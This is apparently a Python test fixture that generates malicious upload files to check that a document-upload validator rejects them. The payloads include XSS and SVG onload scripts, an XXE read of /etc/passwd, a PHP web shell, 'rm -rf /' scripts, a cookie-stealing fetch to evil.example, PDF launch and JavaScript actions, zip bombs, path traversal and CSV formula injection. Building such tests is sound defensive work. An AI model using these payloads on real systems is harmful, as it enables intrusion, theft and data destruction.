"""Files that must never be kept, made by this script: name, content, and words of the sentence that refuses it."""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zlib
from collections.abc import Iterator
from zipfile import ZipFile, ZipInfo

from tests.funding.evidence_samples import DOCX_TYPES, PDF, archive, docx, jpeg, ods, odt, pdf_with, png, xlsx

Hostile = tuple[str, bytes, str]
SCRIPT = b"<script>alert(document.domain)</script>"
MACRO_TYPES = DOCX_TYPES.replace(
    "vnd.openxmlformats-officedocument.wordprocessingml.document.main",
    "vnd.ms-word.document.macroEnabled.main",
)
SLIDES = DOCX_TYPES.replace("wordprocessingml.document", "presentationml.presentation")


def every() -> Iterator[Hostile]:
    """All of them."""
    yield from _nothing()
    yield from _pages_and_scripts()
    yield from _programs()
    yield from _pdfs()
    yield from _pictures()
    yield from _archives()
    yield from _office()
    yield from _texts()


def _nothing() -> Iterator[Hostile]:
    yield "too-large.pdf", PDF + b"\0" * (10 * 1024 * 1024), "larger than 10 MB"
    yield "zeros.pdf", b"\0" * 5000, "taken"
    yield "random.xlsx", bytes(range(256)) * 40, "taken"


def _pages_and_scripts() -> Iterator[Hostile]:
    yield "page.html", b"<!DOCTYPE html><html>" + SCRIPT + b"</html>", "web page"
    yield "page.pdf", b"<html>" + SCRIPT + b"</html>", "web page"
    yield "page.txt", b"\n\n  <html>" + SCRIPT, "web page"
    yield "late.csv", b"Name,Amount\n" * 500 + SCRIPT, "web page"
    yield "wide.txt", ("<html>" + SCRIPT.decode()).encode("utf-16"), "web page"
    yield "picture.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "web page"
    yield "picture.png", b'<?xml version="1.0"?><svg onload="alert(1)"/>', "web page"
    yield "entities.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "web page"
    yield "shell.php", b"<?php system($_GET['c']); ?>", "web page"
    yield "run.sh", b"#!/bin/sh\nrm -rf /\n", "script"
    yield "run.txt", b"#!/bin/sh\nrm -rf /\n", "script"
    yield "run.js", b"fetch('//evil.example/' + document.cookie)", "does not end in"
    yield "run.bat", b"del /q *.*\r\n", "does not end in"
    yield "echo.txt", b"@echo off\r\ndel *.*\r\n", "script"
    yield "script.hta", b"<HTA:APPLICATION id=x>" + SCRIPT, "web page"
    yield "letter.eml", b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT, "e-mail"
    yield "letter.rtf", b"{\\rtf1{\\object\\objocx}}", "script"
    yield "post.txt", b"%!PS-Adobe-3.0\n(x) show", "script"


def _programs() -> Iterator[Hostile]:
    yield "setup.exe", b"MZ\x90\0" + b"\0" * 500, "taken"
    yield "invoice.pdf.exe", b"MZ\x90\0" + b"\0" * 500, "taken"
    yield "gpj\u202eexe.pdf", b"MZ\x90\0" + b"\0" * 500, "taken"
    yield "program.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 500, "taken"
    yield "Payload.docx", b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 500, "taken"
    yield "link.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 500, "taken"
    yield "old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, "old Office file"
    yield "locked.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1EncryptedPackage" + b"\0" * 2000, "password"
    yield "animation.gif", b"GIF89a\x01\0\x01\0\0\0\0;/*" + SCRIPT + b"*/", "taken"
    yield "film.swf", b"FWS\x09" + b"\0" * 100, "taken"


def _pdfs() -> Iterator[Hostile]:
    yield "late.pdf", b"GIF89a" + PDF, "taken"
    yield "headed.pdf", b"\n" + PDF, "taken"
    yield "script.pdf", pdf_with(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "script inside"
    yield "short.pdf", pdf_with(b"/AA<</O<</JS(app.alert(1))>>>>"), "script inside"
    yield "escaped.pdf", pdf_with(b"/OpenAction<</S/J#61vaScript/J#53(x)>>"), "script inside"
    hidden = zlib.compress(b"<</S/JavaScript/JS(app.alert(1))>>")
    packed = (
        b"3 0 obj\n<</Type/ObjStm/Filter/FlateDecode/Length 9>>\nstream\n"
        + hidden
        + b"\nendstream\nendobj\nxref"
    )
    yield "packed.pdf", PDF.replace(b"xref", packed, 1), "script inside"
    yield "launch.pdf", pdf_with(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "start a program"
    yield "parcel.pdf", pdf_with(b"/Names<</EmbeddedFiles 3 0 R>>"), "other files inside"
    yield "media.pdf", pdf_with(b"/Annots[<</Subtype/RichMedia>>]"), "moving content"
    yield "protected.pdf", PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root"), "protected"
    yield "page-behind.pdf", PDF + b"<html>" + SCRIPT, "behind the end"
    yield "zip-behind.pdf", PDF + archive({"a.exe": b"MZ"}), "two files in one"
    yield "half.pdf", PDF[:-20], "damaged"
    bomb = zlib.compress(b"\0" * 60_000_000, 9)
    parts = b"".join(
        b"3 0 obj\n<</Type/ObjStm/Filter/FlateDecode>>\nstream\n" + bomb + b"\nendstream\nendobj\n"
        for _ in range(3)
    )
    yield "bomb.pdf", PDF.replace(b"xref", parts + b"xref", 1), "unpacks to more"


def _pictures() -> Iterator[Hostile]:
    yield "script-behind.png", png() + SCRIPT, "behind the picture"
    yield "script-behind.jpg", jpeg() + SCRIPT, "behind the picture"
    yield "zip-behind.png", png() + archive({"a.exe": b"MZ"}), "two files in one"
    yield "zip-in-picture.jpg", jpeg() + archive({"a.js": b"x"}, comment=b"\xff\xd9"), "two files in one"
    yield "comment.jpg", jpeg(b"<?php system($_GET['c']); ?>"), "inside the picture"
    text = b"Comment\0" + SCRIPT
    kind = b"tEXt"
    made = struct.pack(">I", len(text)) + kind + text + struct.pack(">I", zlib.crc32(kind + text))
    yield "comment.png", png(made), "inside the picture"
    yield "huge.png", png(width=100_000, height=100_000), "too many pixels"
    yield "half.png", png()[:-8], "damaged"
    yield "half.jpg", jpeg()[:30], "damaged"
    yield "bent.png", png().replace(b"IDAT", b"IDAX"), "damaged"


def _archives() -> Iterator[Hostile]:
    yield "files.zip", archive({"a.txt": "x"}), "archive"
    yield "files.pdf", archive({"a.txt": "x"}), "archive"
    yield "files.gz", gzip.compress(b"x" * 100), "taken"
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as tar:
        tar.addfile(tarfile.TarInfo("a.txt"))
    yield "files.tar", target.getvalue(), "taken"
    yield "files.7z", b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 100, "taken"
    yield "files.rar", b"Rar!\x1a\x07\x01\0" + b"\0" * 100, "taken"
    yield "half.xlsx", xlsx()[: len(xlsx()) // 2], "damaged"


def _office() -> Iterator[Hostile]:
    yield "macros.docx", docx({"word/vbaProject.bin": b"\xd0\xcf"}), "macros"
    yield "macros.docm", docx(types=MACRO_TYPES), "macros"
    yield "sheets.xlsx", docx({"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"
    yield "control.docx", docx({"word/activeX/activeX1.bin": b"x"}), "macros"
    yield "object.docx", docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "another file"
    yield "program.docx", docx({"word/media/tool.exe": b"MZ"}), "another file"
    yield "slides.pptx", docx(types=SLIDES), "not taken"
    link = (
        '<Relationship Type="x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
    )
    yield "template.docx", docx({"word/_rels/settings.xml.rels": link}), "load something from another place"
    yield "entities.docx", docx({"word/x.xml": '<!DOCTYPE a [<!ENTITY x "y">]><a/>'}), "damaged"
    yield "climbing.docx", docx({"../../etc/cron.d/x": "x"}), "damaged"
    yield "commented.docx", docx(comment=SCRIPT), "damaged"
    yield "headed.docx", b"MZ" + docx(), "two files in one"
    yield (
        "bomb.docx",
        docx({f"word/{number}.bin": b"\0" * 30_000_000 for number in range(7)}),
        "unpacks to more",
    )
    yield "many.docx", docx({f"word/{number}.bin": b"" for number in range(5001)}), "unpacks to more"
    yield "twice.docx", _twice(), "damaged"
    yield "basic.odt", _with(odt(), {"Basic/Standard/Module1.xml": "<x/>"}), "macros"
    yield "scripts.ods", _with(ods(), {"Scripts/python/x.py": "x"}), "macros"
    plain = {"META-INF/manifest.xml": "<manifest:encryption-data/>", "content.xml": "<x/>"}
    sheet = "application/vnd.oasis.opendocument.spreadsheet"
    yield "locked.ods", archive({"mimetype": sheet, **plain}), "password"
    yield (
        "slides.odp",
        archive({"mimetype": sheet.replace("spreadsheet", "presentation"), **plain}),
        "not taken",
    )
    yield "encrypted.docx", _encrypted(docx()), "password"


def _with(content: bytes, parts: dict[str, str]) -> bytes:
    target = io.BytesIO(content)
    with ZipFile(target, "a") as made:
        for name, text in parts.items():
            made.writestr(name, text)
    return target.getvalue()


def _twice() -> bytes:
    """Two parts of the same name: programs differ in which of them they open."""
    target = io.BytesIO(docx())
    with ZipFile(target, "a") as made:
        made.writestr(ZipInfo("word/document.xml"), "<other/>")
    return target.getvalue()


def _encrypted(content: bytes) -> bytes:
    """Says of every part that it is encrypted."""
    found = bytearray(content)
    for sign, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = found.find(sign)
        while place >= 0:
            found[place + offset] |= 1
            place = found.find(sign, place + 1)
    return bytes(found)


def _texts() -> Iterator[Hostile]:
    yield "formula.csv", b'Name,Amount\nx,=HYPERLINK("http://evil.example")\n', "formula"
    yield "command.csv", b"Name,Amount\n=cmd|' /C calc'!A0,1\n", "formula"
    yield "sum.csv", b"Name,Amount\n@SUM(1+9)*cmd|' /C calc'!A0,1\n", "formula"
    yield "plus.csv", b"Name;Amount\nx;+cmd|' /C calc'!A0\n", "formula"
    yield "nul.csv", b"Name,Amount\nx,\x00\n", "taken"
    yield "bell.txt", b"\x1b]0;title\x07", "taken"
    yield "data.json", json.dumps({"a": 1}).encode(), "does not end in"
    yield "nameless", b"just words", "does not end in"
